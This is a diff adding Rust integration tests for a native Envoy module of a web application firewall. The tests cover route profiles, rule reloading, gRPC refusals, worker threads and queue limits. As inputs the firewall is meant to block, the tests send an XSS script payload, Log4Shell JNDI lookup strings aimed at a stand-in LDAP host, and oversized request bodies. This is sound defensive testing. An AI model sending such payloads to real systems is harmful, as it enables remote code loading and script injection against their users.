@@ -1,0 +1,322 @@
+//! What is the native module's own: routes, reloading, threads, versions of Envoy. Attacks, framings and what passes are
+//! tried on it beside ext-proc, in `attacks`, `framing` and `pass_through`.
+
+use std::fs;
+use std::net::Ipv4Addr;
+use std::path::PathBuf;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread::scope;
+use std::time::{Duration, Instant};
+
+use glacis_tests::envoy::{self, CONFIG};
+use glacis_tests::greedy::dense_form;
+use glacis_tests::http::{Connection, Request};
+use glacis_tests::log::Folder;
+use glacis_tests::stack::{Ports, Stack};
+use glacis_tests::{http2, native as stack, settings};
+use serde_json::Value;
+
+use crate::support::{Own, access_log, client, eventually, folder, native, shared};
+
+const FORM: &str = "application/x-www-form-urlencoded";
+const ATTACK: &str = "q=%3Cscript%3Ealert(1)%3C/script%3E";
+
+fn attack(path: &str) -> Request {
+    Request::get(&format!("{path}?{ATTACK}")).browser()
+}
+
+/// A counter of the module.
+fn counted(stack: &Stack, name: &str) -> u64 {
+    stack.envoy.stat(&format!("dynamicmodulescustom.{name}")).unwrap()
+}
+
+/// A receipt without what differs from one request to the next.
+fn receipt(stack: &Stack, from: Ipv4Addr) -> Value {
+    let mut receipt = access_log(stack, &[from]).remove(0)["glacis"].take();
+    if let Some(entries) = receipt.as_object_mut() {
+        entries.remove("request_id");
+    }
+    receipt
+}
+
+/// The same request leaves the same receipt, and the same answer, in both hosts.
+#[test]
+fn receipts_are_those_of_ext_proc() {
+    let long = format!("a={}&{ATTACK}", "glacis+and+ice+".repeat(2_000));
+    let rows = [
+        Request::get("/echo?q=winter+coat"),
+        attack("/echo"),
+        Request::get("/echo").header("user-agent", "${jndi:ldap://192.0.2.1/a}"),
+        Request::post("/echo", FORM, "name=Jo"),
+        Request::post("/echo", FORM, ATTACK),
+        Request::post("/echo", FORM, long),
+        Request::post("/echo", "application/json", r#"{"q": "<script>alert(1)</script>"}"#),
+        Request::post("/echo", FORM, vec![b'a'; 13_107_201]),
+        Request::get("/echo").header("cookie", "a=1; ".repeat(300)),
+        // Envoy answers in the words of gRPC, whatever the rules take it for.
+        Request::post("/echo", "application/grpc+proto", ATTACK)
+            .header("x-note", "${jndi:ldap://a}"),
+    ];
+    for request in rows {
+        let request = request.browser();
+        let of = |stack: &Stack| {
+            let from = client();
+            let answer = stack.send(from, &request).unwrap();
+            let mut body = answer.text();
+            // The name of the request is its own.
+            let line = access_log(stack, &[from]).remove(0);
+            if let Some(id) = line["glacis"]["request_id"].as_str() {
+                body = body.replace(id, "");
+            }
+            let own: Vec<_> =
+                ["content-type", "cache-control", "vary", "retry-after", "grpc-status"]
+                    .map(|name| answer.header(name).map(str::to_owned))
+                    .to_vec();
+            let body = (answer.status != 200).then_some(body);
+            (answer.status, own, body, receipt(stack, from))
+        };
+        assert_eq!(of(native()), of(shared()), "{} {}", request.method, request.target);
+    }
+}
+
+/// Each way in which a route chooses a profile, or none.
+#[test]
+fn routes_choose_profiles() {
+    let routes = r#"              - name: by-route
+                match: {prefix: /by-route/}
+                route: *route
+                typed_per_filter_config:
+                  glacis:
+                    "@type": type.googleapis.com/envoy.extensions.filters.http.dynamic_modules.v3.DynamicModuleFilterPerRoute
+                    dynamic_module_config: {name: glacis}
+                    filter_name: waf
+                    filter_config:
+                      "@type": type.googleapis.com/google.protobuf.Struct
+                      value: {profile: look}
+              - name: by-metadata
+                match: {prefix: /by-metadata/}
+                route: *route
+                metadata: {filter_metadata: {glacis: {profile: look}}}
+              - name: by-name
+                match: {prefix: /by-name/}
+                route: *route
+              - name: misspelt
+                match: {prefix: /misspelt/}
+                route: *route
+                metadata: {filter_metadata: {glacis: {profile: lok}}}
+              - name: closed
+"#;
+    let keys = ["profiles: {look: {mode: detection}}", "routes: {by-name: look}"];
+    let own = Own::native("native-profiles", &keys, &[("              - name: closed\n", routes)]);
+    for (path, profile, status) in [
+        ("/echo", Some("default"), 403),
+        ("/by-route/echo", Some("look"), 200),
+        ("/by-metadata/echo", Some("look"), 200),
+        ("/by-name/echo", Some("look"), 200),
+        // Not open for want of a profile.
+        ("/misspelt/echo", Some("default"), 403),
+        ("/static/echo", None, 200),
+    ] {
+        let from = client();
+        assert_eq!(own.0.send(from, &attack(path)).unwrap().status, status, "{path}");
+        let receipt = receipt(&own.0, from);
+        assert_eq!(receipt["profile"].as_str(), profile, "{path}: {receipt}");
+    }
+    assert_eq!(counted(&own.0, "glacis_unknown_profiles"), 1);
+    assert_eq!(counted(&own.0, "glacis_requests.profile.look.verdict.allow"), 3);
+    assert_eq!(counted(&own.0, "glacis_requests.profile.default.verdict.deny"), 2);
+}
+
+/// A client of gRPC is refused in its own words.
+#[test]
+fn calls_of_grpc_are_refused_in_trailers() {
+    let request = Request::post("/glacis.test.Text/Echo", "application/grpc", "");
+    let request = request.header("te", "trailers").header("x-note", "${jndi:ldap://192.0.2.1/a}");
+    let answer = http2::send(client(), native().proxy(), &request).unwrap();
+    assert_eq!((answer.status, answer.body.len()), (200, 0), "{answer:?}");
+    assert_eq!(answer.header("content-type"), Some("application/grpc"), "{answer:?}");
+    assert_eq!(answer.header("grpc-status"), Some("7"), "{answer:?}");
+    let message = answer.header("grpc-message").unwrap_or_default();
+    assert!(message.starts_with("Forbidden; request "), "{answer:?}");
+}
+
+/// A file of rules that a test changes.
+fn rules(name: &str, text: &str) -> PathBuf {
+    let folder = Folder::new(&folder(&format!("{name}-rules"))).unwrap();
+    folder.write("local.conf", text).unwrap()
+}
+
+/// Rules are replaced while requests are served, and what is not good changes nothing.
+#[test]
+fn rules_are_reloaded() {
+    let rule = |word: &str| {
+        format!("SecRule ARGS \"@streq {word}\" \"id:9000,phase:2,deny,status:418,log\"\n")
+    };
+    let file = rules("native-reload", &rule("one"));
+    let key = format!("rules: [{}]", file.display());
+    let own = Own::native("native-reload", &[&key, "reload_seconds: 1"], &[]);
+    let status = |word: &str| {
+        let request = Request::get(&format!("/echo?q={word}")).browser();
+        own.0.send(client(), &request).unwrap().status
+    };
+    assert_eq!((status("one"), status("two")), (418, 200));
+    let ended = AtomicBool::new(false);
+    scope(|scope| {
+        let load = scope.spawn(|| {
+            let mut others = Vec::new();
+            while !ended.load(Ordering::Relaxed) {
+                others.extend(Some(status("three")).filter(|status| *status != 200));
+            }
+            others
+        });
+        fs::write(&file, rule("two")).unwrap();
+        eventually("the new rule is in use", Duration::from_secs(30), || status("two") == 418);
+        assert_eq!(status("one"), 200);
+        fs::write(&file, "SecRule ARGS \"@rxx a\" \"id:1,deny\"\n").unwrap();
+        let log = || own.0.folder.read(envoy::LOG);
+        eventually("the broken rule is refused", Duration::from_secs(30), || {
+            log().contains("the rules in use stay") && log().contains("local.conf:1")
+        });
+        assert_eq!((status("one"), status("two")), (200, 418));
+        ended.store(true, Ordering::Relaxed);
+        assert_eq!(load.join().unwrap(), Vec::<u16>::new());
+    });
+}
+
+/// Envoy refuses a configuration with rules that are not good, and says where they are not.
+#[test]
+fn what_is_not_good_is_refused_with_its_place() {
+    let file =
+        rules("native-refused", "SecRuleEngine On\nSecRule ARGUMENTS \"@rx a\" \"id:1,deny\"\n");
+    let folder = Folder::new(&folder("native-refused")).unwrap();
+    let rules = format!("rules: [{}]", file.display());
+    for (key, words) in [
+        (&*rules, &["local.conf:2", "ARGUMENTS", "^"][..]),
+        ("paranoia: 5", &["paranoia: write a level from 1 to 4"]),
+        ("parnoia: 2", &["parnoia"]),
+        ("late: fail", &["late (profile default): "]),
+    ] {
+        let text = stack::config(&Ports::QUICKSTART, &folder, &[key]).unwrap();
+        let config = folder.write(CONFIG, &text).unwrap();
+        let refused = envoy::validate(&settings::envoy().unwrap(), &settings::root(), &config);
+        let refused = refused.unwrap_err().to_string();
+        for word in words {
+            assert!(refused.contains(word), "{key}: no {word} in {refused}");
+        }
+    }
+}
+
+/// The time that each of so many requests takes on one connection.
+fn times(stack: &Stack, count: usize) -> Vec<Duration> {
+    let mut connection = Connection::open(Some(client()), stack.proxy()).unwrap();
+    let request = Request::get("/echo?q=winter+coat").browser();
+    let mut times = Vec::with_capacity(count);
+    for _ in 0..count {
+        let began = Instant::now();
+        assert_eq!(connection.send(&request).unwrap().status, 200);
+        times.push(began.elapsed());
+        std::thread::sleep(Duration::from_millis(2));
+    }
+    times.sort_unstable();
+    times
+}
+
+/// While the largest hostile bodies are evaluated, the worker that has taken them serves others: there is one worker only,
+/// and an evaluation takes it some hundred milliseconds.
+#[test]
+fn workers_do_not_wait_for_evaluations() {
+    let keys = ["evaluation_threads: 1", "deadline_ms: 0"];
+    let (envoy, ports) = (settings::envoy().unwrap(), Ports::free().unwrap());
+    let own = stack::start_in(&envoy, &folder("native-threads"), ports, &keys, &[], 1);
+    let own = Own(own.unwrap());
+    let quiet = times(&own.0, 100);
+    let dense = dense_form(1_000_000, 50);
+    let ended = AtomicBool::new(false);
+    scope(|scope| {
+        let hostile = scope.spawn(|| {
+            let mut longest = Duration::ZERO;
+            while !ended.load(Ordering::Relaxed) {
+                let began = Instant::now();
+                let request = Request::post("/echo", FORM, &*dense).browser();
+                let status = own.0.send(client(), &request).unwrap().status;
+                assert!(matches!(status, 403 | 503), "{status}");
+                longest = longest.max(began.elapsed());
+            }
+            longest
+        });
+        std::thread::sleep(Duration::from_millis(100));
+        let busy = times(&own.0, 100);
+        ended.store(true, Ordering::Relaxed);
+        let longest = hostile.join().unwrap();
+        // Half of all requests: a machine that does other things, too, is late for some.
+        let (quiet, busy) = (quiet[50], busy[50]);
+        eprintln!("quiet {quiet:?}, busy {busy:?}, an evaluation {longest:?}");
+        assert!(busy <= quiet + Duration::from_millis(2), "{quiet:?}, then {busy:?}");
+        assert!(longest > Duration::from_millis(20), "no evaluation took long: {longest:?}");
+    });
+}
+
+/// Evaluations that find no place are rejected, and counted.
+#[test]
+fn a_full_queue_is_a_503() {
+    let keys = [
+        "inline_body_bytes: 0",
+        "evaluation_threads: 1",
+        "evaluation_queue_max: 1",
+        "deadline_ms: 0",
+    ];
+    let own = Own::native("native-queue", &keys, &[]);
+    let dense = dense_form(200_000, 50);
+    let send = || {
+        let request = Request::post("/echo", FORM, &*dense).browser();
+        own.0.send(client(), &request).unwrap().status
+    };
+    let mut statuses = Vec::new();
+    for _ in 0..5 {
+        scope(|scope| {
+            let threads: Vec<_> = (0..6).map(|_| scope.spawn(send)).collect();
+            statuses.extend(threads.into_iter().map(|thread| thread.join().unwrap()));
+        });
+        if statuses.contains(&503) {
+            break;
+        }
+    }
+    assert!(statuses.iter().all(|status| matches!(status, 403 | 503)), "{statuses:?}");
+    assert!(statuses.contains(&503), "the queue was never full");
+    let rejected = statuses.iter().filter(|status| **status == 503).count() as u64;
+    let name = "glacis_rejected.reason.queue_full";
+    assert_eq!(counted(&own.0, name), rejected);
+}
+
+/// Clients that do not wait for the verdict on their bodies harm nobody.
+#[test]
+fn clients_may_go_while_they_are_evaluated() {
+    let own = Own::native("native-gone", &["evaluation_threads: 1", "inline_body_bytes: 0"], &[]);
+    let dense = dense_form(300_000, 50);
+    for number in 0..20 {
+        let mut connection = Connection::open(Some(client()), own.0.proxy()).unwrap();
+        connection.write(&Request::post("/echo", FORM, &*dense).browser().bytes()).unwrap();
+        std::thread::sleep(Duration::from_millis(number));
+    }
+    eventually("the queue is empty again", Duration::from_secs(30), || {
+        let request = Request::post("/echo", FORM, "a=b").browser();
+        own.0.send(client(), &request).unwrap().status == 200
+    });
+    assert_eq!(own.0.send(client(), &attack("/echo")).unwrap().status, 403);
+}
+
+/// A body is held up to the limit of the rules, whatever Envoy's own limit is.
+#[test]
+fn large_bodies_reach_the_rules() {
+    let small = (
+        "    filter_chains:\n",
+        "    per_connection_buffer_limit_bytes: 32768\n    filter_chains:\n",
+    );
+    let own = Own::native("native-large", &[], &[small]);
+    let large = |end: &str| format!("a={}{end}", "glacis+and+ice+".repeat(20_000));
+    for (body, status) in [(large(""), 200), (large(&format!("&{ATTACK}")), 403)] {
+        let request = Request::post("/echo", FORM, body).browser();
+        let answer = own.0.send(client(), &request).unwrap();
+        assert_eq!(answer.status, status, "{:.300}", answer.text());
+    }
+}
